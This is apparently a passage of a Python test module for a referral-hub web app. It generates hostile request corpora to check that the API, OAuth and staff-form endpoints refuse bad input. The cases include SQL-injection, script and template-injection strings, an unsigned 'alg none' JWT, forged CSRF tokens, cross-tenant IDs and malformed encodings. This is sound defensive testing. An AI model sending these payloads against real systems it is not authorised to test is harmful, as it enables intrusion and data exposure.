+        "api",
+        "/api/v1/users/{own_user}",
+        "admin",
+        lambda w: {"display_name": "Renamed"},
+        foreign={"own_user": ("other_user",)},
+    ),
+    Target(
+        "webhooks.subscribe",
+        "POST",
+        "api",
+        "/api/v1/webhooks",
+        "admin",
+        lambda w: {"url": "https://partner.example/hook", "events": ["referral.sent"]},
+    ),
+    Target(
+        "webhooks.disable",
+        "POST",
+        "api",
+        "/api/v1/webhooks/{own_webhook}/disable",
+        "admin",
+        None,
+        foreign={"own_webhook": ("other_webhook",)},
+    ),
+    Target(
+        "clients.create_client",
+        "POST",
+        "api",
+        "/api/v1/clients",
+        "intake",
+        lambda w: {
+            "profile": {"language": "es", "accessibility": ["wheelchair"]},
+            "pii": {"name": "Ana", "narrative": "Arrived at night.", "dob": "1990-01-01"},
+            "do_not_refer": [w.other],
+        },
+    ),
+    Target(
+        "clients.record_consent",
+        "POST",
+        "api",
+        "/api/v1/clients/{own_client}/consents",
+        "intake",
+        consent_body,
+        foreign={"own_client": ("other_client",)},
+    ),
+    Target(
+        "clients.erase_client",
+        "POST",
+        "api",
+        "/api/v1/clients/{own_client}/erase",
+        "intake",
+        lambda w: {"reason": "she asked"},
+        foreign={"own_client": ("other_client",)},
+    ),
+    Target(
+        "clients.revoke_consent",
+        "POST",
+        "api",
+        "/api/v1/consents/{own_consent}/revoke",
+        "intake",
+        lambda w: {"reason": "she asked"},
+        foreign={"own_consent": ("other_consent",)},
+    ),
+    Target(
+        "referrals.send_referral",
+        "POST",
+        "api",
+        "/api/v1/referrals",
+        "intake",
+        lambda w: {
+            "client_id": w.own_client,
+            "service_id": w.fourth_service,
+            "urgency": "routine",
+            "data_categories": ["profile"],
+            "note": "Needs a quiet room.",
+        },
+        private={
+            "client_id": ("other_client", "own_service", "own_consent"),
+            "consent_id": ("other_consent", "own_client"),
+            "previous_referral_id": ("other_referral",),
+        },
+    ),
+    Target(
+        "referrals.create_bundle",
+        "POST",
+        "api",
+        "/api/v1/bundles",
+        "intake",
+        lambda w: {
+            "client_id": w.own_client,
+            "urgency": "routine",
+            "needs": [
+                {
+                    "category": "case_management",
+                    "service_ids": [w.fourth_service],
+                    "note": "Case work.",
+                }
+            ],
+        },
+        private={"client_id": ("other_client", "own_service"), "consent_id": ("other_consent",)},
+    ),
+    Target(
+        "referrals.act",
+        "POST",
+        "api",
+        "/api/v1/referrals/{own_referral}/request-info",
+        "receiver",
+        lambda w: {"question": "Which language does she speak?"},
+        foreign={"own_referral": ("other_referral",)},
+    ),
+    Target(
+        "referrals.post_message",
+        "POST",
+        "api",
+        "/api/v1/referrals/{own_referral}/messages",
+        "receiver",
+        lambda w: {"body": "We have a bed tonight."},
+        foreign={"own_referral": ("other_referral",)},
+    ),
+    Target(
+        "directory.create_service",
+        "POST",
+        "api",
+        "/api/v1/services",
+        "provider",
+        lambda w: {
+            "name": "Night shelter",
+            "category": "emergency_shelter",
+            "location": {
+                "name": "North site",
+                "city": "Riverbend",
+                "latitude": 1.5,
+                "longitude": 2.5,
+            },
+            "eligibility": {"min_age": 18, "notes": "Adults."},
+        },
+        private={"agency_id": ("other", "third")},
+    ),
+    Target(
+        "directory.update_service",
+        "PATCH",
+        "api",
+        "/api/v1/services/{own_service}",
+        "provider",
+        lambda w: {"hours": "Mon-Fri 9-17", "description": "Beds for women."},
+        foreign={"own_service": ("other_service", "third_service")},
+    ),
+    Target(
+        "directory.put_capacity",
+        "PUT",
+        "api",
+        "/api/v1/services/{own_service}/capacity",
+        "provider",
+        lambda w: {"total": 5, "available": 3, "note": "Two beds cleaned."},
+        foreign={"own_service": ("other_service", "third_service")},
+    ),
+    Target(
+        "directory.confirm_capacity",
+        "POST",
+        "api",
+        "/api/v1/services/{own_service}/capacity/confirm",
+        "provider",
+        None,
+        foreign={"own_service": ("other_service", "third_service")},
+    ),
+    Target(
+        "directory.hsds_import",
+        "POST",
+        "api",
+        "/api/v1/hsds/import",
+        "hub_admin",
+        hsds_body,
+    ),
+]
+OAUTH_TARGETS = [
+    Target("oauth.token", "POST", "oauth", "/oauth/token"),
+    Target("oauth.revoke", "POST", "oauth", "/oauth/revoke"),
+    Target("oauth.introspect", "POST", "oauth", "/oauth/introspect"),
+]
+FORM_TARGETS = [
+    Target("signin.login", "POST", "form", "/login"),
+    Target("signin.code", "POST", "form", "/login/code", "hub_admin"),
+    Target("signin.enrol", "POST", "form", "/login/enrol", "enrolling"),
+    Target("signin.second_factor", "POST", "form", "/account/second-factor", "second_factor"),
+    Target("signin.logout", "POST", "form", "/logout", "intake"),
+]
+TARGETS = {t.endpoint: t for t in API_TARGETS + OAUTH_TARGETS + FORM_TARGETS}
+
+
+def schema_of(app: Flask, target: Target) -> Schema | None:
+    """The marshmallow schema the view loads its JSON body with (None: it takes no body)."""
+    view = app.view_functions[target.endpoint]
+    for parameter in getattr(view, "_apidoc", {}).get("arguments", {}).get("parameters", []):
+        if parameter.get("location", parameter.get("in", "json")) == "json":
+            schema = parameter["schema"]
+            return schema() if isinstance(schema, type) else schema  # type: ignore[no-any-return]
+    return None
+
+
+# --- corpus builders ----------------------------------------------------------------------------
+
+
+def api_corpus(target: Target, w: World, schema: Schema | None) -> list[Case]:
+    url = target.url(w)
+    base = target.body(w) if target.body else None
+    body = dumps(base) if base is not None else None
+    method = target.method
+
+    def case(label: str, category: str, payload: bytes | None, **kw: Any) -> Case:
+        return Case(label, category, method, kw.pop("path", url), payload, **kw)
+
+    cases = [case("the valid request", "baseline", body, outcome=ACCEPT)]
+    document = body or b'{"a": "b"}'
+    template = base if base is not None else {"a": "b"}
+    first = next(iter(template))
+    # intake
+    cases.append(
+        case(
+            "1 MiB string",
+            "oversize",
+            dumps(with_value(template, (first,), "x" * ONE_MIB)),
+            statuses=frozenset({413}),
+        )
+    )
+    cases.append(
+        case("1 MiB of spaces", "oversize", b" " * (ONE_MIB + 1), statuses=frozenset({413}))
+    )
+    cases.append(
+        case("1 MiB of brackets", "oversize", b"[" * (ONE_MIB + 1), statuses=frozenset({413}))
+    )
+    for label, content_type in CONTENT_TYPES.items():
+        cases.append(
+            case(
+                label,
+                "content type",
+                document,
+                content_type=content_type,
+                statuses=frozenset({415}),
+            )
+        )
+    for label, raw in bad_encodings(document).items():
+        cases.append(case(label, "encoding", raw, statuses=frozenset({400})))
+    for label, raw in BROKEN_JSON.items():
+        cases.append(case(label, "broken json", raw, statuses=frozenset({400})))
+    # an HSDS document may be a list; what it holds is then checked (422)
+    hsds = target.endpoint == "directory.hsds_import"
+    not_an_object = frozenset({400, 422} if hsds else {400})
+    for label, raw in NOT_AN_OBJECT.items():
+        cases.append(case(label, "not an object", raw, statuses=not_an_object))
+    for label, number in NUMBERS_REFUSED.items():
+        cases.append(
+            case(
+                label,
+                "NaN and overflow",
+                raw_at(template, (first,), number),
+                statuses=frozenset({400}),
+            )
+        )
+    for key in list(template)[:4]:
+        for label, value in (("same value", template[key]), ("other value", "other")):
+            text = dumps(template).decode()
+            doubled = "{" + json.dumps(key) + ": " + json.dumps(value) + ", " + text[1:]
+            cases.append(
+                case(
+                    f"{key} twice, {label}",
+                    "duplicate keys",
+                    doubled.encode(),
+                    statuses=frozenset({400}),
+                    names=key,
+                )
+            )
+    cases.append(
+        case(
+            "nested duplicate",
+            "duplicate keys",
+            b'{"x": {"k": 1, "k": 2}}',
+            statuses=frozenset({400}),
+        )
+    )
+    for depth in (33, 64, 1000, 100_000):
+        cases.append(
+            case(
+                f"{depth} arrays deep",
+                "deep nesting",
+                b"[" * depth + b"]" * depth,
+                statuses=frozenset({400}),
+            )
+        )
+        nested = '{"a": ' * depth + "1" + "}" * depth
+        cases.append(
+            case(
+                f"{depth} objects deep in a field",
+                "deep nesting",
+                raw_at(template, (first,), nested),
+                statuses=frozenset({400}),
+            )
+        )
+    # per field, from the schema
+    if schema is not None:
+        # every hostile string goes into the first top-level free-text field (the rest get a
+        # sample: the same code path; test_accepted_injection_strings_... reads them all back)
+        first_text = next(
+            (p for p, f in walk(schema, base) if len(p) == 1 and is_free_text(f)), None
+        )
+        for path, field_ in walk(schema, base):
+            mutations = field_mutations(field_, every_string=path == first_text)
+            for label, value, outcome, statuses in mutations:
+                category = "wrong type" if label.startswith("wrong type") else "field value"
+                if label.startswith("string: "):
+                    category = "control and bidi" if label[8:] in CONTROL else "injection"
+                    if label[8:] in INTAKE_REFUSED_STRINGS:
+                        category = "control and bidi"
+                cases.append(
+                    case(
+                        f"{dotted(path)}: {label}",
+                        category,
+                        dumps(with_value(base, path, value)),
+                        outcome=outcome,
+                        statuses=statuses or None,
+                        names=dotted(path) if outcome == REJECT else None,
+                        sent=value,
+                        sent_at=path,
+                    )
+                )
+    if hsds:
+        # HSDS is an open format (extra properties allowed; `id` and `status` are its own):
+        # its structural attacks are in hsds_cases
+        cases += hsds_cases(url, w)
+        cases += credential_cases(target, w, url, body)
+        return cases + malformed_key_cases(target, url, body)
+    # server-owned fields
+    known = set(schema.fields) if schema is not None else set()
+    substitutions = {
+        "{other}": w.other,
+        "{other_user}": w.other_user,
+        "{other_object}": w.other_service,
+    }
+    for name, value in SERVER_OWNED.items():
+        if name in known:
+            continue
+        if isinstance(value, str) and value in substitutions:
+            value = substitutions[value]
+        cases.append(
+            case(
+                f"{name} = {value!r}",
+                "server-owned field",
+                dumps(with_value(base, (name,), value)),
+                statuses=frozenset({422}),
+                names=name,
+            )
+        )
+    for label, value in itertools.chain(INJECTION.items(), CONTROL.items()):
+        cases.append(
+            case(
+                f"a field named {label}",
+                "server-owned field",
+                dumps(with_value(base, (value,), "x")),
+                statuses=frozenset({422}),
+            )
+        )
+    if schema is not None:
+        for path, field_ in walk(schema, base):
+            if isinstance(field_, fields.Nested) and not field_.many:
+                cases.append(
+                    case(
+                        f"{dotted(path)}.id inside a nested object",
+                        "server-owned field",
+                        dumps(with_value(base, (*path, "id"), w.other_service)),
+                        statuses=frozenset({422}),
+                        names=dotted((*path, "id")),
+                    )
+                )
+    # other tenants' (and missing) ids: path parameters, then body ids
+    for param, others in target.foreign.items():
+        for other in others:
+            cases.append(
+                case(
+                    f"{param} -> {other}",
+                    "other tenant",
+                    body,
+                    path=target.url(w, **{param: getattr(w, other)}),
+                    statuses=frozenset({403, 404}),
+                )
+            )
+        cases.append(
+            case(
+                f"{param} -> missing",
+                "other tenant",
+                body,
+                path=target.url(w, **{param: str(uuid.uuid4())}),
+                statuses=frozenset({404}),
+            )
+        )
+        for label, segment in GARBAGE_SEGMENTS.items():
+            own_id = getattr(w, param)
+            segment = segment.replace("{uuid}", own_id).replace("{uuid_short}", own_id[:-1])
+            cases.append(
+                case(
+                    f"{param} -> {label}",
+                    "other tenant",
+                    body,
+                    path=target.url(w, **{param: urllib.parse.quote(segment, safe="")}),
+                    statuses=frozenset({404}),
+                )
+            )
+    for name, others in target.private.items():
+        for other in (*others, "missing"):
+            value = str(uuid.uuid4()) if other == "missing" else getattr(w, other)
+            cases.append(
+                case(
+                    f"{name} -> {other}",
+                    "other tenant",
+                    dumps(with_value(base, (name,), value)),
+                    statuses=frozenset({403, 404, 409, 422}),
+                )
+            )
+    if target.endpoint == "referrals.act":
+        cases += act_cases(target, w)
+    cases += credential_cases(target, w, url, body)
+    cases += malformed_key_cases(target, url, body)
+    return cases
+
+
+def act_cases(target: Target, w: World) -> list[Case]:
+    """The action segment is free text in the route: hostile names and hostile bodies."""
+    from referral_hub.referrals.states import PUBLIC_ACTIONS
+
+    cases = []
+    base = f"/api/v1/referrals/{w.own_referral}/"
+    hostile_actions = {
+        "system-only expire": "expire",
+        "system-only supersede": "supersede",
+        "system-only no-show": "no-show",
+        "capitals": "ACCEPT",
+        "trailing space": "accept%20",
+        "unknown": "promote",
+        "sql": urllib.parse.quote("accept' OR 1=1 --", safe=""),
+        "html": urllib.parse.quote("<script>", safe=""),
+        "template": urllib.parse.quote("{{7*7}}", safe=""),
+        "NUL": "accept%00",
+    }
+    for label, action in hostile_actions.items():
+        cases.append(
+            Case(
+                f"action {label}",
+                "other tenant",
+                "POST",
+                base + action,
+                b"{}",
+                statuses=frozenset({404}),
+            )
+        )
+    for action in PUBLIC_ACTIONS:
+        for label, document in {
+            "reason of the wrong type": {"reason": 42},
+            "position out of range": {"position": 0},
+            "unknown field": {"status": "accepted"},
+        }.items():
+            cases.append(
+                Case(
+                    f"{action} with {label}",
+                    "field value",
+                    "POST",
+                    base + action,
+                    dumps(document),
+                    statuses=frozenset({400, 422}),
+                    names=next(iter(cast(dict[str, Any], document))),
+                )
+            )
+    return cases
+
+
+def hsds_cases(url: str, w: World) -> list[Case]:
+    """An HSDS document is free-form JSON checked by JSON Schema: structural attacks."""
+    service = hsds_body(w)
+    documents: dict[str, Any] = {
+        "organization is a string": {**service, "organization": "Hostile Org"},
+        "organization is a list": {**service, "organization": ["x"]},
+        "organization name is an object": {
+            **service,
+            "organization": {"id": "o", "name": {"a": 1}},
+        },
+        "status outside HSDS": {**service, "status": "sleeping"},
+        "status in the hub's spelling": {**service, "status": "temporarily_closed"},
+        "name is a number": {**service, "name": 42},
+        "id missing": {k: v for k, v in service.items() if k != "id"},
+        "minimum_age is a string": {**service, "minimum_age": "18"},
+        "minimum_age NaN-like string": {**service, "minimum_age": "NaN"},
+        "languages are strings": {**service, "languages": ["en"]},
+        "attributes are strings": {**service, "attributes": ["category:shelter"]},
+        "attribute term is a string": {
+            **service,
+            "attributes": [{"id": "a", "taxonomy_term": "x"}],
+        },
+        "phones are strings": {**service, "phones": ["555"]},
+        "schedules are numbers": {**service, "schedules": [1]},
+        "service_areas is an object": {**service, "service_areas": {"name": "x"}},
+        "service_at_locations are strings": {**service, "service_at_locations": ["here"]},
+        "location is a string": {
+            **service,
+            "service_at_locations": [{"id": "l", "location": "here"}],
+        },
+        "service_at_location with a string service": {"service": "x", "location": {"id": "l"}},
+        "service_at_location with a string location": {"service": service, "location": "here"},
+        "service_at_location with a list location": {"service": service, "location": ["here"]},
+        "service_at_location with a null service": {"service": None, "location": {}},
+        "organization with string services": {"name": "Org", "services": "abc"},
+        "organization with numeric services": {"name": "Org", "services": [1, 2]},
+        "organization with null name": {"name": None, "services": [], "website": "x"},
+        "contents not a list": {"contents": "x"},
+        "contents of strings": {"contents": ["x", "y"]},
+        "contents of nulls": {"contents": [None]},
+        "list of strings": ["x"],
+        "list of lists": [[service]],
+        "empty object": {},
+        "metadata of the wrong type": {**service, "metadata": "x"},
+        "url is javascript": {**service, "url": "javascript:alert(1)"},
+        "url is data": {**service, "url": "data:text/html,<script>alert(1)</script>"},
+        "email is markup": {**service, "email": "<script>"},
+        "location addresses is a string": {"service": service, "location": {"addresses": "x"}},
+        "location address is a string": {"service": service, "location": {"addresses": ["x"]}},
+        "location latitude is a string": {"service": service, "location": {"latitude": "1"}},
+        "nested location is a list": {
+            **service,
+            "service_at_locations": [{"id": "l", "location": ["x"]}],
+        },
+    }
+    cases = [
+        Case(label, "hsds structure", "POST", url, dumps(document), statuses=frozenset({400, 422}))
+        for label, document in documents.items()
+    ]
+    orphan = {k: v for k, v in service.items() if k != "organization"}  # needs agency_id
+    for label, value in {
+        "not a uuid": "x",
+        "sql": "' OR 1=1 --",
+        "html": "<script>",
+        "missing agency": str(uuid.uuid4()),
+        "a service's id": w.own_service,
+        "a client's id": w.other_client,
+    }.items():
+        cases.append(
+            Case(
+                f"agency_id {label}",
+                "field value",
+                "POST",
+                f"{url}?agency_id={urllib.parse.quote(value)}",
+                dumps(orphan),
+                statuses=frozenset({400, 404, 422}),
+            )
+        )
+    return cases
+
+
+def credential_cases(target: Target, w: World, url: str, body: bytes | None) -> list[Case]:
+    """Bad, expired, revoked tokens; missing and forged CSRF tokens on the staff session."""
+    cases = []
+    refused = frozenset({400, 401, 403})
+    headers = {
+        "no credentials": (),
+        "empty bearer": (("Authorization", "Bearer "),),
+        "bare scheme": (("Authorization", "Bearer"),),
+        "garbage token": (("Authorization", "Bearer garbage"),),
+        "600-character token": (("Authorization", "Bearer " + "a" * 600),),
+        "basic scheme": (("Authorization", "Basic " + base64.b64encode(b"user:pass").decode()),),
+        "token scheme": (("Authorization", "Token abc"),),
+        "alg none JWT": (("Authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0."),),
+        "latin-1 token": (("Authorization", "Bearer \u00e9\u00e9"),),
+        "token with trailing junk": (("Authorization", f"Bearer {w.tokens['narrow scope']}x"),),
+        **{
+            f"{label} token": (("Authorization", f"Bearer {token}"),)
+            for label, token in w.tokens.items()
+            if label != "other tenant" or target.foreign
+        },
+    }
+    for label, pairs in headers.items():
+        # another agency's good token meets our objects: refused as if they did not exist
+        statuses = refused | {404} if label == "other tenant token" else refused
+        cases.append(
+            Case(
+                label,
+                "bad token",
+                target.method,
+                url,
+                body,
+                headers=pairs,
+                acting=False,
+                statuses=statuses,
+            )
+        )
+    cases.append(
+        Case(
+            "bearer token and session cookie",
+            "bad token",
+            target.method,
+            url,
+            body,
+            headers=(
+                ("Authorization", f"Bearer {w.tokens['narrow scope']}"),
+                ("X-CSRFToken", "{csrf}"),
+            ),
+            acting=False,
+            via="session",
+            statuses=frozenset({400}),
+        )
+    )
+    csrf = {
+        "missing": (),
+        "empty": (("X-CSRFToken", ""),),
+        "garbage": (("X-CSRFToken", "garbage"),),
+        "another session's": (("X-CSRFToken", "{foreign_csrf}"),),
+        "last character changed": (("X-CSRFToken", "{csrf_flipped}"),),
+        "truncated": (("X-CSRFToken", "{csrf_truncated}"),),
+        "with a suffix": (("X-CSRFToken", "{csrf}x"),),
+        "under another header name": (("X-CSRF-Token", "{csrf}"),),
+        "in the query string": (),
+    }
+    for label, pairs in csrf.items():
+        path = (
+            url + ("&" if "?" in url else "?") + "csrf_token={csrf}"
+            if label == "in the query string"
+            else url
+        )
+        cases.append(
+            Case(
+                f"CSRF token {label}",
+                "CSRF",
+                target.method,
+                path,
+                body,
+                headers=pairs,
+                acting=False,
+                via="session",
+                statuses=frozenset({403}),
+                names="csrf_token",
+            )
+        )
+    cases.append(
+        Case(
+            "CSRF token in the JSON body",
+            "CSRF",
+            target.method,
+            url,
+            dumps(with_value(json.loads(body) if body else {}, ("csrf_token",), "{csrf}")),
+            acting=False,
+            via="session",
+            # a view that takes no body refuses one (422) before the session is looked at
+            statuses=frozenset({403} if body else {422}),
+            names="csrf_token",
+        )
+    )
+    cases.append(
+        Case(
+            "the valid request on the session",
+            "baseline",
+            target.method,
+            url,
+            body,
+            headers=(("X-CSRFToken", "{csrf}"),),
+            acting=False,
+            via="session",
+            outcome=ACCEPT,
+        )
+    )
+    return cases
+
+
+def malformed_key_cases(target: Target, url: str, body: bytes | None) -> list[Case]:
+    if target.method != "POST":
+        return []
+    keys = {
+        "empty": "",
+        "256 characters": "k" * 256,
+        "a space": "has space",
+        "a tab": "has\ttab",
+        "latin-1": "cl\u00e9",
+        "DEL": "key\x7f",
+    }
+    return [
+        Case(
+            f"Idempotency-Key with {label}",
+            "idempotency",
+            target.method,
+            url,
+            body,
+            headers=(("Idempotency-Key", key),),
+            statuses=frozenset({422}),
+            names="Idempotency-Key",
+        )
+        for label, key in keys.items()
+    ]
+
+
+REPLAY_KEY = "hostile-replay-key-1"
+
+
+def replay_corpus(target: Target, w: World, schema: Schema | None) -> list[Case]:
+    """After a first request with REPLAY_KEY: the same key with anything else is refused."""
+    url = target.url(w)
+    base = target.body(w) if target.body else None
+    body = dumps(base) if base is not None else None
+    key = (("Idempotency-Key", REPLAY_KEY),)
+    reused = frozenset({409, 422})
+    malformed = frozenset({400})  # refused at intake, before the key is looked at
+    cases = [
+        Case("same key, same body", "idempotency", "POST", url, body, headers=key, outcome=NOOP),
+        Case(
+            "same key, query added",
+            "idempotency",
+            "POST",
+            url + "?x=1",
+            body,
+            headers=key,
+            statuses=reused,
+        ),
+    ]
+    template = base if base is not None else {}
+    if body is not None:
+        cases.append(
+            Case(
+                "same key, no body", "idempotency", "POST", url, None, headers=key, statuses=reused
+            )
+        )
+        spaced = json.dumps(base, indent=2).encode()
+        cases.append(
+            Case(
+                "same key, same JSON spaced differently",
+                "idempotency",
+                "POST",
+                url,
+                spaced,
+                headers=key,
+                statuses=reused,
+            )
+        )
+    variants: dict[str, Any] = {
+        "server-owned field": with_value(template, ("status",), "forged-status"),
+        "another tenant's id": with_value(template, ("agency_id",), w.other),
+        "broken json": None,
+    }
+    for label, value in INJECTION.items():
+        variants[f"injection {label}"] = with_value(
+            template, ("note" if "note" in template else next(iter(template), "x"),), value
+        )
+    for label, document in variants.items():
+        raw = b'{"a": ' if document is None else dumps(document)
+        statuses = malformed if document is None else reused
+        cases.append(
+            Case(
+                f"same key, {label}",
+                "idempotency",
+                "POST",
+                url,
+                raw,
+                headers=key,
+                statuses=statuses,
+            )
+        )
+    if target.foreign:
+        param, others = next(iter(target.foreign.items()))
+        other_url = target.url(w, **{param: getattr(w, others[0])})
+        cases.append(
+            Case(
+                "same key, another object",
+                "idempotency",
+                "POST",
+                other_url,
+                body,
+                headers=key,
+                statuses=reused,
+            )
+        )
+    return cases
+
+
+# --- OAuth and staff-page corpora ---------------------------------------------------------------
+
+HOSTILE_VALUES: dict[str, str] = {
+    **INJECTION,
+    **CONTROL,
+    "empty": "",
+    "10,000 characters": "x" * 10_000,
+    "unicode": "\u00e9\u4e2d\U0001f600",
+}
+
+
+def form(pairs: Sequence[tuple[str, str]]) -> bytes:
+    return urllib.parse.urlencode(list(pairs)).encode()
+
+
+FORM = "application/x-www-form-urlencoded"
+
+
+def form_body_variants(fields_: dict[str, str]) -> dict[str, tuple[bytes, str]]:
+    """The same form sent in hostile shapes: (body, content type)."""
+    plain = list(fields_.items())
+    first = plain[0][0]
+    boundary = "hostileboundary"
+    multipart = (
+        "".join(
+            f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'
+            for k, v in plain
+        )
+        + f"--{boundary}--\r\n"
+    )
+    return {
+        "as JSON": (json.dumps(fields_).encode(), "application/json"),
+        "as text": (form(plain), "text/plain"),
+        "as multipart": (multipart.encode(), f"multipart/form-data; boundary={boundary}"),
+        "broken multipart": (b"--x\r\nnonsense", "multipart/form-data; boundary=x"),
+        "multipart without boundary": (form(plain), "multipart/form-data"),
+        "field twice": (form([(first, "a"), *plain, (first, "b")]), FORM),
+        "invalid UTF-8 percent-encoded": (form(plain).replace(b"=", b"=%FF%FE", 1), FORM),
+        "raw invalid UTF-8": (form(plain) + b"&x=\xff\xfe", FORM),
+        "UTF-16 body": (form(plain).decode().encode("utf-16"), FORM),
+        "latin-1 charset": (form(plain), FORM + "; charset=latin-1"),
+        "unknown field": (form([*plain, ("is_admin", "1")]), FORM),
+        "1 MiB field": (form([(first, "x" * ONE_MIB)]), FORM),
+        "10,000 fields": (b"&".join(b"f%d=1" % i for i in range(10_000)), FORM),
+        "NUL in a field": (form([(first, "a\x00b"), *plain[1:]]), FORM),
+        "semicolon separators": (form(plain).replace(b"&", b";"), FORM),
+        "no body": (b"", FORM),
+    }
+
+
+def oauth_corpus(target: Target, w: World) -> list[Case]:
+    client_id, secret = w.client_credentials
+    good_basic = "Basic " + base64.b64encode(f"{client_id}:{secret}".encode()).decode()
+    auths: dict[str, tuple[tuple[str, str], ...]] = {
+        "no client authentication": (),
+        "wrong secret": (
+            ("Authorization", "Basic " + base64.b64encode(f"{client_id}:wrong".encode()).decode()),
+        ),
+        "unknown client": (
+            ("Authorization", "Basic " + base64.b64encode(b"rhc_nobody:x").decode()),
+        ),
+        "not base64": (("Authorization", "Basic ***"),),
+        "no colon": (("Authorization", "Basic " + base64.b64encode(client_id.encode()).decode()),),
+        "not UTF-8": (("Authorization", "Basic " + base64.b64encode(b"\xff\xfe:\xff").decode()),),
+        "empty basic": (("Authorization", "Basic "),),
+        "bearer instead": (("Authorization", f"Bearer {w.tokens['narrow scope']}"),),
+        "10,000-character id": (
+            ("Authorization", "Basic " + base64.b64encode(b"a" * 10_000 + b":x").decode()),
+        ),
+        "injection in the id": (
+            ("Authorization", "Basic " + base64.b64encode(b"' OR 1=1 --:x").decode()),
+        ),
+        "empty id and secret": (("Authorization", "Basic " + base64.b64encode(b":").decode()),),
+        "good id, empty secret": (
+            ("Authorization", "Basic " + base64.b64encode(f"{client_id}:".encode()).decode()),
+        ),
+        "good id, percent-encoded secret": (
+            (
+                "Authorization",
+                "Basic " + base64.b64encode(f"{client_id}:%00{secret}".encode()).decode(),
+            ),
+        ),
+        "basic header twice": (("Authorization", good_basic + ", " + good_basic),),
+    }
+    cases: list[Case] = []
+    if target.endpoint == "oauth.token":
+        params: dict[str, list[tuple[str, str]]] = {
+            "no grant type": [],
+            "password grant": [("grant_type", "password"), ("username", "a"), ("password", "b")],
+            "code grant": [("grant_type", "authorization_code"), ("code", "x")],
+            "implicit": [("grant_type", "implicit")],
+            "refresh grant": [("grant_type", "refresh_token"), ("refresh_token", "x")],
+            "grant type twice": [("grant_type", "client_credentials"), ("grant_type", "password")],
+        }
+        for label, value in HOSTILE_VALUES.items():
+            params[f"grant type {label}"] = [("grant_type", value)]
+            if value.strip():  # an empty scope asks for the client's own scopes: valid
+                params[f"scope {label}"] = [("grant_type", "client_credentials"), ("scope", value)]
+        for label, value in HOSTILE_VALUES.items():
+            params[f"client_id {label} in the form"] = [
+                ("grant_type", "client_credentials"),
+                ("client_id", value),
+                ("client_secret", secret),
+            ]
+        params["scope not granted"] = [
+            ("grant_type", "client_credentials"),
+            ("scope", "audit:read"),
+        ]
+        params["unknown scope"] = [
+            ("grant_type", "client_credentials"),
+            ("scope", "directory:read root"),
+        ]
+        params["client id in the form too"] = [
+            ("grant_type", "client_credentials"),
+            ("client_id", "rhc_other"),
+        ]
+        # with good client authentication every parameter set must still be refused
+        for label, pairs in params.items():
+            cases.append(
+                Case(
+                    f"good client, {label}",
+                    "oauth parameters",
+                    "POST",
+                    target.path,
+                    form(pairs),
+                    FORM,
+                    ((("Authorization", good_basic),)),
+                    acting=False,
+                )
+            )
+        for label, auth in auths.items():
+            for grant in ("client_credentials", "password"):
+                cases.append(
+                    Case(
+                        f"{label}, {grant}",
+                        "oauth client authentication",
+                        "POST",
+                        target.path,
+                        form([("grant_type", grant)]),
+                        FORM,
+                        auth,
+                        acting=False,
+                    )
+                )
+        cases.append(
+            Case(
+                "secret in the form, wrong",
+                "oauth client authentication",
+                "POST",
+                target.path,
+                form(
+                    [
+                        ("grant_type", "client_credentials"),
+                        ("client_id", client_id),
+                        ("client_secret", "wrong"),
+                    ]
+                ),
+                FORM,
+                acting=False,
+            )
+        )
+        for label, (raw, content_type) in form_body_variants(
+            {"grant_type": "password", "scope": "admin"}
+        ).items():
+            for auth_label in ("good client", "wrong secret"):
+                auth = (
+                    (("Authorization", good_basic),)
+                    if auth_label == "good client"
+                    else auths["wrong secret"]
+                )
+                cases.append(
+                    Case(
+                        f"{auth_label}, body {label}",
+                        "oauth body",
+                        "POST",
+                        target.path,
+                        raw,
+                        content_type,
+                        auth,
+                        acting=False,
+                    )
+                )
+        return cases
+    # revoke / introspect: a token parameter, a client to authenticate
+    tokens = {
+        "garbage": "garbage",
+        "another tenant's token": w.tokens["other tenant"],
+        "revoked": w.tokens["revoked"],
+        "expired": w.tokens["expired"],
+        **{f"token {label}": value for label, value in HOSTILE_VALUES.items()},
+    }
+    hints = ("access_token", "refresh_token", "<script>", "")
+    for label, token in tokens.items():
+        for hint in hints[:2]:
+            pairs = [("token", token)] + ([("token_type_hint", hint)] if hint else [])
+            cases.append(
+                Case(
+                    f"good client, {label}, hint {hint or 'none'}",
+                    "oauth parameters",
+                    "POST",
+                    target.path,
+                    form(pairs),
+                    FORM,
+                    ((("Authorization", good_basic),)),
+                    acting=False,
+                    outcome=NOOP,
+                )
+            )
+    for label, value in HOSTILE_VALUES.items():
+        cases.append(
+            Case(
+                f"good client, hint {label}",
+                "oauth parameters",
+                "POST",
+                target.path,
+                form([("token", "garbage"), ("token_type_hint", value)]),
+                FORM,
+                ((("Authorization", good_basic),)),
+                acting=False,
+                outcome=NOOP,
+            )
+        )
+    for hint in hints[2:]:
+        cases.append(
+            Case(
+                f"good client, hint {hint!r}",
+                "oauth parameters",
+                "POST",
+                target.path,
+                form([("token", "garbage"), ("token_type_hint", hint)]),
+                FORM,
+                ((("Authorization", good_basic),)),
+                acting=False,
+                outcome=NOOP,
+            )
+        )
+    cases.append(
+        Case(
+            "good client, no token",
+            "oauth parameters",
+            "POST",
+            target.path,
+            form([]),
+            FORM,
+            ((("Authorization", good_basic),)),
+            acting=False,
+            outcome=NOOP,
+        )
+    )
+    cases.append(
+        Case(
+            "good client, token twice",
+            "oauth parameters",
+            "POST",
+            target.path,
+            form([("token", "a"), ("token", "b")]),
+            FORM,
+            ((("Authorization", good_basic),)),
+            acting=False,
+            outcome=NOOP,
+        )
+    )
+    for label, auth in auths.items():
+        for token_label in ("narrow scope", "other tenant", "revoked", "garbage"):
+            token = w.tokens.get(token_label, "garbage")
+            cases.append(
+                Case(
+                    f"{label}, {token_label} token",
+                    "oauth client authentication",
+                    "POST",
+                    target.path,
+                    form([("token", token)]),
+                    FORM,
+                    auth,
+                    acting=False,
+                )
+            )
+    for label, (raw, content_type) in form_body_variants(
+        {"token": w.tokens["other tenant"]}
+    ).items():
+        for auth_label in ("good client", "wrong secret"):
+            auth = (
+                (("Authorization", good_basic),)
+                if auth_label == "good client"
+                else auths["wrong secret"]
+            )
+            cases.append(
+                Case(
+                    f"{auth_label}, body {label}",
+                    "oauth body",
+                    "POST",
+                    target.path,
+                    raw,
+                    content_type,
+                    auth,
+                    acting=False,
+                    outcome=NOOP if auth_label == "good client" else REJECT,
+                )
+            )
+    return cases
+
+
+def form_corpus(target: Target, w: World) -> list[Case]:
+    """Staff pages: hostile fields with a good CSRF token, then without a good one."""
